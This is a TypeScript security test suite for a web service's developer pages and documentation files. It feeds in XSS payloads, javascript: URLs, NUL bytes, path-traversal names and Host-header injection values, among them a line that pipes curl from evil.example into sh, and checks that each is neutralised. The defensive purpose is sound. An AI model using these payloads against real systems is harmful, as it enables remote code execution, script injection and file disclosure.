import { createGarden, indexed } from '../contract/garden.js';
import { type Service, startService } from '../contract/service.js';
import { rawExchange } from '../http/serve.js';
import { insert } from '../resources/fixture.js';

const SCRIPT = '<script>alert(1)</script>';
const BREAKING = `"'><img src=x onerror=alert(1)>`;

let service: Service;
beforeAll(async () => {
  service = await startService({
    fill: (database) =>
      database.session(async (client) => {
        await createGarden(client);
        for (const [at, url] of ['javascript:alert(1)', 'data:text/html,x', ' JavaScript:alert(1)'].entries())
          await insert(client, 'source', {
            slug: `hostile-${at}`,
            name: `${SCRIPT}${at}`,
            citation: BREAKING,
            licence: `${BREAKING}${SCRIPT}`,
            licence_url: url,
            url,
            rank: 900 + at,
          });
      }),
    engine: indexed,
  });
});
afterAll(() => service.close());

const page = async (path: string, host = 'garden.example'): Promise<string> =>
  rawExchange(service.port, `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);

describe('descriptions of sources on the page for developers', () => {
  it('are text, never markup', async () => {
    const text = await page('/developers');
    expect(text).toContain('&lt;script>alert(1)&lt;/script>0');
    expect(text).toContain("&quot;'>&lt;img src=x");
    expect(text).not.toContain(SCRIPT);
    expect(text).not.toContain('<img');
  });

  it('link only to web addresses', async () => {
    const targets = [...(await page('/developers')).matchAll(/href="([^"]*)"/g)].map(([, target]) => target);
    expect(targets.length).toBeGreaterThan(5);
    expect(targets.filter((target) => !/^(https?:\/\/|\/|#content$)/.test(target ?? ''))).toEqual([]);
  });
});

describe('NUL in the address of a page', () => {
  const NAMES = ['add', 'at', 'filter[author]', 'id', 'lang', 'name', 'page', 'q', 'species', 'zone'];

  it('is a character like others', async () => {
    const pages = service.paths.filter((path) => !path.startsWith('/api'));
    const addresses = pages.flatMap((path) =>
      path.includes(':')
        ? [path.replaceAll(/:\w+/g, '%00'), path.replaceAll(/:\w+/g, 'pyrella%00montana')]
        : NAMES.map((name) => `${path}?${name}=a%00`),
    );
    const unexpected: string[] = [];
    for (const address of addresses) {
      const { status } = await fetch(service.url + address, { redirect: 'manual' });
      if (![200, 303, 400, 404, 422].includes(status)) unexpected.push(`${status} ${address}`);
    }
    expect(unexpected).toEqual([]);
    expect(addresses.length).toBeGreaterThan(200);
  });
});

describe('the host that a caller sends', () => {
  it.each(['garden.example', 'garden.example:8443', '192.0.2.7:80', '[2001:db8::1]:3000'])(
    '%s appears in the commands',
    async (host) => {
      expect(await page('/developers', host)).toContain(`http://${host}/api/v1/species`);
    },
  );

  it.each([`x';curl evil.example|sh;'`, BREAKING, 'a b', 'evil.example/$(id)', 'user@evil.example', ''])(
    '%s brings nothing into them that a terminal would run',
    async (host) => {
      const text = await page('/developers', host);
      const commands = [...text.matchAll(/data-curl="([^"]*)"/g)].map(([, command]) => command ?? '');
      expect(commands.length).toBeGreaterThan(3);
      expect(
        commands.filter((command) => !/^(?:http:\/\/[\w.:-]+)?\/api\/v1\/[^'`$\s]*$/.test(command)),
      ).toEqual([]);
      expect(text).not.toContain('<img');
    },
  );
});

describe('C15.7 pages in caches', () => {
  it('are stored by browsers only, as they contain the host of the caller; their files by all, for ever', async () => {
    const { headers } = await fetch(service.url);
    expect(headers.get('cache-control')).toBe('private, max-age=60');
    for (const [file] of (await page('/')).matchAll(/\/files\/[\w.-]+/g))
      expect((await fetch(service.url + file)).headers.get('cache-control')).toBe(
        'public, max-age=31536000, immutable',
      );
  });
});

describe('files of the documentation', () => {
  it.each([
    '..%2f..%2fpackage.json',
    '%2e%2e/%2e%2e/package.json',
    'package.json',
    '..',
    '',
    'swagger-ui.css%00.js',
  ])('%s is not a file of Swagger UI', async (name) => {
    const folder = /"..\/(docs\/swagger-ui-[^"/]+)\//.exec(await page('/docs/browser'))?.[1];
    expect(await page(`/${folder}/${name}`)).toMatch(/^HTTP\/1\.1 404 /);
  });
});
